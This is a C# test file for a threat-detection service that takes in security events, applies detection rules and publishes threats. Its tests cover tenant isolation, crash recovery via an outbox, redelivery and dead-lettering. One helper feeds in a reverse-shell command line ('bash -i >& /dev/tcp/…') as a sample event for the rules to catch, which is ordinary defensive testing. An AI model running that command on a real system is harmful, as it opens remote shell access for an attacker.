using System.Net.Http.Json;
using System.Text.Json;
using Platform.Contracts;
using Platform.Dapr;
using Platform.Hosting;

namespace Platform.Risk.Tests;

public sealed class SecurityTopicTests : IAsyncLifetime
{
    private static readonly DateTimeOffset start = new(2026, 1, 5, 0, 0, 0, TimeSpan.Zero);
    private RiskHost host = null!;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync() => host = await RiskHost.StartAsync();

    public ValueTask DisposeAsync() => host.DisposeAsync();

    [Fact]
    public async Task What_rules_find_in_a_delivered_event_is_announced_with_its_tenant()
    {
        await PublishAsync("demo", Shell("e-1"));
        await Eventually.HoldsAsync(() => Announced().Count == 1);

        using var envelope = JsonDocument.Parse(Assert.Single(host.Sidecar.Published(Topics.Threats)).Data);
        Assert.Equal("demo", envelope.RootElement.GetProperty("tenantid").GetString());
        var threat = Announced()[0];
        Assert.Equal(threat.Id, envelope.RootElement.GetProperty("id").GetString());
        Assert.Equal(("e-1", "sigma", RiskLevel.Critical), (threat.EventId, threat.Source, threat.Severity));
    }

    [Fact]
    public async Task A_scan_over_two_deliveries_with_a_crash_between_is_announced_once()
    {
        await PublishAsync("demo", [.. Enumerable.Range(1, 15).Select(Flow), Shell("first")]);
        await Eventually.HoldsAsync(() => Announced().Count == 1);
        await host.CrashAsync();
        await host.StartAppAsync();

        await PublishAsync("demo", [.. Enumerable.Range(10, 15).Select(Flow)]);
        await PublishAsync("demo", [.. Enumerable.Range(10, 15).Select(Flow)]);
        await PublishAsync("demo", Shell("last"));
        await Eventually.HoldsAsync(() => Announced().Exists(threat => threat.EventId == "last"));
        await Eventually.HoldsAsync(() => Announced().Exists(threat => threat.Source is "network"));

        Assert.Equal(("port-scan", "p-20"), Assert.Single(
            Announced().Where(threat => threat.Source is "network").Select(threat => (threat.Type, threat.EventId))));
    }

    [Fact]
    public async Task Redelivery_learns_nothing_and_what_is_found_again_has_the_same_id()
    {
        SecurityEvent[] events = [.. Enumerable.Range(1, 19).Select(Flow), Shell("e-1")];
        for (var i = 1; i <= 3; i++)
        {
            await PublishAsync("demo", events);
            await Eventually.HoldsAsync(() => Announced().Count == i);
        }

        Assert.Single(Announced().DistinctBy(threat => threat.Id));
        Assert.DoesNotContain(Announced(), threat => threat.Source is "network");

        await PublishAsync("demo", Flow(20));
        await Eventually.HoldsAsync(() => Announced().Exists(threat => threat.Source is "network"));
        await PublishAsync("demo", Flow(20), Shell("e-2"));
        await Eventually.HoldsAsync(() => Announced().Exists(threat => threat.EventId is "e-2"));
        Assert.Single(Announced(), threat => threat.Source is "network");
    }

    [Fact]
    public async Task What_a_crash_left_stored_is_announced_at_the_next_start()
    {
        await PublishAsync("demo", [.. Enumerable.Range(1, 20).Select(Flow)]);
        await Eventually.HoldsAsync(() => Announced().Count == 1);
        var body = JsonSerializer.Serialize(Announced()[0], ContractsJson.Default.ThreatEvent);
        await host.CrashAsync();
        var entry = $$$"""
            [{"entryId":"0","contentType":"application/cloudevents+json","event":{"specversion":"1.0","id":"left","source":"risk",
              "type":"platform.threat","time":"2026-01-05T00:00:00Z","tenantid":"demo","data":{{{body}}}}}]
            """.Replace("'", "''", StringComparison.Ordinal);
        await host.AlterAsync(
            $"INSERT INTO risk_outbox (id, topic, payload) VALUES (gen_random_uuid(), 'threats', convert_to('{entry}', 'UTF8'))");

        await host.StartAppAsync();

        await Eventually.HoldsAsync(() => host.Sidecar.Published(Topics.Threats)
            .Any(message => JsonDocument.Parse(message.Data).RootElement.GetProperty("id").GetString() is "left"));
    }

    [Fact]
    public async Task Flows_of_another_tenant_are_not_seen()
    {
        await PublishAsync("other", [.. Enumerable.Range(1, 19).Select(Flow)]);
        await PublishAsync("demo", Flow(20), Shell("e-1"));
        await Eventually.HoldsAsync(() => Announced().Count > 0);

        Assert.Equal("sigma", Assert.Single(Announced()).Source);
    }

    [Fact]
    public async Task An_event_that_is_not_valid_goes_to_the_dead_letters_and_the_others_are_judged()
    {
        await PublishAsync("demo", Shell("e-1") with { Ip = "nowhere" }, Shell("e-2"));
        await Eventually.HoldsAsync(() => Announced().Count == 1 && host.Sidecar.Published($"{Topics.SecurityEvents}-dead").Count == 1);

        Assert.Equal("e-2", Announced()[0].EventId);
    }

    [Fact]
    public async Task What_a_caller_asks_for_is_answered_and_not_announced()
    {
        using var answer = await host.Client(Roles.Service).PostAsJsonAsync(
            "/monitor-network", new([.. Enumerable.Range(1, 20).Select(Flow)]), ContractsJson.Default.SecurityEventBatch, Ct);
        answer.EnsureSuccessStatusCode();
        await PublishAsync("demo", Shell("e-1"));
        await Eventually.HoldsAsync(() => Announced().Count > 0);

        Assert.Equal("sigma", Assert.Single(Announced()).Source);
    }

    private static SecurityEvent Shell(string id) => new()
    {
        Id = id, Time = start.AddHours(1), Kind = SecurityEventKind.Process, Source = new("linux"),
        Fields = Fields("""{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/10.0.0.1/4444"}"""),
    };

    private static SecurityEvent Flow(int port) => new()
    {
        Id = $"p-{port}", Time = start.AddSeconds(port), Kind = SecurityEventKind.Network, Ip = "10.0.0.7",
        Fields = Fields($$"""{"destination.ip":"192.0.2.1","destination.port":{{port}},"network.transport":"tcp"}"""),
    };

    private static Dictionary<string, JsonElement> Fields(string json) =>
        JsonElement.Parse(json).EnumerateObject().ToDictionary(field => field.Name, field => field.Value);

    private async Task PublishAsync(string tenant, params SecurityEvent[] events)
    {
        using var dapr = new DaprClient(new() { HttpEndpoint = host.Sidecar.HttpEndpoint("ingest") });
        var envelopes = events.Select(e =>
            new CloudEvent<SecurityEvent>(e.Id, "ingest", "platform.security-event", e.Time, e) { TenantId = tenant }).ToList();
        var answer = await dapr.BulkPublishEventAsync(
            Topics.PubSub, Topics.SecurityEvents, envelopes, ContractsJson.Default.SecurityEvent, Ct);
        Assert.Empty(answer.FailedEntries);
    }

    private List<ThreatEvent> Announced() =>
    [
        .. host.Sidecar.Published(Topics.Threats).Select(message => JsonDocument.Parse(message.Data).RootElement.GetProperty("data"))
            .Select(data => data.Deserialize(ContractsJson.Default.ThreatEvent)!),
    ];
}
